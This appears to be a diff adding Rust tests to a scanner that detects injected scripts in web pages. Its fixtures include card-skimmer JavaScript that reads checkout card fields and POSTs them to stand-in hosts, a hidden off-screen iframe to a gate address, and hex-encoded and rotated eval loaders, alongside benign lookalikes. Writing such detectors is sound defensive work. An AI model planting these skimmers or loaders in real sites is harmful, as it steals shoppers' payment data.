@@ -58,6 +58,22 @@ fn hidden_text_that_is_no_address_or_unused_is_not_a_finding() {
 }
 
 #[test]
+fn a_mail_address_obfuscator_is_not_a_finding() {
+    // A template engine's mailto helper prints `eval(unescape('%64%6f…'))` with the link's
+    // text encoded: a literal, decoded and judged by what it holds (a mailto link).
+    let php = r#"return '<script type="text/javascript">eval(unescape(\'' . $js_encode . '\'))</script>';"#;
+    assert_eq!(in_page(php.as_bytes()), None);
+    let link: String = "document.write('<a href=\"mailto:info@bakery.example\">Mail us</a>');"
+        .bytes()
+        .map(|b| format!("%{b:02x}"))
+        .collect();
+    assert_eq!(found(&format!("eval(unescape('{link}'));")), None);
+    // Computed text run at once is.
+    assert_eq!(found("var k = load(); eval(unescape(k));"), Some(Danger::High));
+    assert_eq!(found("this['eval'](this['atob'](p.split('').reverse().join('')));"), Some(Danger::High));
+}
+
+#[test]
 fn the_classic_analytics_snippet_is_not_a_finding() {
     // Only the angle brackets are encoded: nothing is hidden.
     let ga = r#"var gaJsHost = (("https:" == document.location.protocol) ? "https://ssl." : "http://www.");
@@ -129,7 +145,7 @@ fn a_pages_script_blocks_are_read_and_the_block_is_named() {
     );
     let page = format!("<html><head><title>Shop</title></head><body><p>Hi</p>{block}</body></html>");
     let at = page.find("<script>").unwrap();
-    assert_eq!(in_page(page.as_bytes()), Some(Injection { danger: Danger::High, at }));
+    assert_eq!(in_page(page.as_bytes()), Some(Injection { why: Why::InjectedScript, danger: Danger::High, at }));
     let gtag = "<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-1\"></script>\
                 <script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}</script>";
     assert_eq!(in_page(gtag.as_bytes()), None);
@@ -140,4 +156,66 @@ fn decoders_read_what_they_are_given() {
     assert_eq!(char_codes(b"104, 0x69,300"), b"hi");
     assert_eq!(escapes(br"\x68\u0069"), b"hi");
     assert_eq!(percent(b"%68%u0069"), b"hi");
+}
+
+#[test]
+fn a_checkout_skimmer_is_a_collector() {
+    let skimmer = "document.addEventListener('click', function(){ var d = {};\
+        d.n = document.getElementById('authorizenet_cc_number').value;\
+        d.c = document.getElementById('authorizenet_cc_cid').value;\
+        var x = new XMLHttpRequest(); x.open('POST', '//cdn-stats-img.example/gate.php', false);\
+        x.send(btoa(JSON.stringify(d))); });";
+    assert_eq!(injected(skimmer.as_bytes()).map(|i| i.why), Some(Why::CredentialCollector));
+    // Every field of a checkout page's forms, sent to an address kept apart from the sender.
+    let all = "var S = { gate: 'https://jquery-cdn-lib.example/j.php' };\
+        if (/onepage|checkout/.test(location.href)) { var v = [];\
+        document.querySelectorAll('input, select').forEach(function(e){ v.push(e.name + '=' + e.value); });\
+        var r = new XMLHttpRequest(); r.open('POST', S.gate); r.send(v.join('&')); }";
+    assert_eq!(injected(all.as_bytes()).map(|i| i.why), Some(Why::CredentialCollector));
+}
+
+#[test]
+fn a_shops_own_checkout_script_is_not_a_collector() {
+    // The shop's checkout posts its own fields to its own address (relative).
+    let own = "/* see https://shop.example/docs */ jQuery(function($){ if ($('#checkout').length) {\
+        $('form.checkout').on('submit', function(){ $.ajax({ url: wc_params.checkout_url, type: 'POST',\
+        data: $('form.checkout').serialize() }); return false; }); } });";
+    assert_eq!(found(own), None);
+    // A card form validating its fields in the browser only.
+    let check = "function valid(){ var n = $('#cc_number').val().replace(/\\s/g, ''); return luhn(n); }";
+    assert_eq!(found(check), None);
+}
+
+#[test]
+fn an_invisible_frame_to_another_site_is_found() {
+    let gate = "if (document.cookie.indexOf('vis=') < 0) { var f = document.createElement('iframe');\
+        f.src = 'http://stats.gate-example.info/in.php?id=7'; f.style.position = 'absolute';\
+        f.style.left = '-1999px'; f.width = '10'; f.height = '10'; document.body.appendChild(f); }";
+    assert_eq!(found(gate), Some(Danger::High));
+    // A visible embed of a video is not.
+    let video = "var f = document.createElement('iframe'); f.src = 'https://www.youtube.example/embed/x';\
+        f.width = '640'; f.height = '360'; box.appendChild(f);";
+    assert_eq!(found(video), None);
+}
+
+#[test]
+fn hexadecimal_text_decoded_in_a_loop_and_hidden_names_are_read() {
+    let code = "var f=document.createElement('iframe');f.src='http://gate.example/?x';document.body.appendChild(f);";
+    let hexed: String = code.bytes().map(|b| format!("{b:02x}")).collect();
+    let js = format!(
+        "(function(){{var o='';var h=\"{hexed}\";for(var i=0;i<h.length;i+=2){{o+=parseInt(h.substring(i,i+2),16)+',';}}\
+         eval(eval('String.fromCharCode('+o.slice(0,-1)+')'));}})();"
+    );
+    assert_eq!(found(&js), Some(Danger::High));
+    // A checksum is no hidden text.
+    assert_eq!(found("var sum = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'; eval(x);"), None);
+    // The page's own names kept in escape codes: `window['document']['write'](…)`.
+    assert_eq!(found(r#"window['\x64\x6f\x63\x75\x6d\x65\x6e\x74']['\x77\x72\x69\x74\x65'](s);"#), Some(Danger::High));
+}
+
+#[test]
+fn the_older_rotation_is_an_obfuscators_too() {
+    let js = library()
+        + "var _0x4e2a=['log','hello'];(function(a,b){var c=function(d){while(--d){a['push'](a['shift']());}};c(++b);}(_0x4e2a,0x1b3));";
+    assert_eq!(found(&js), Some(Danger::High));
 }
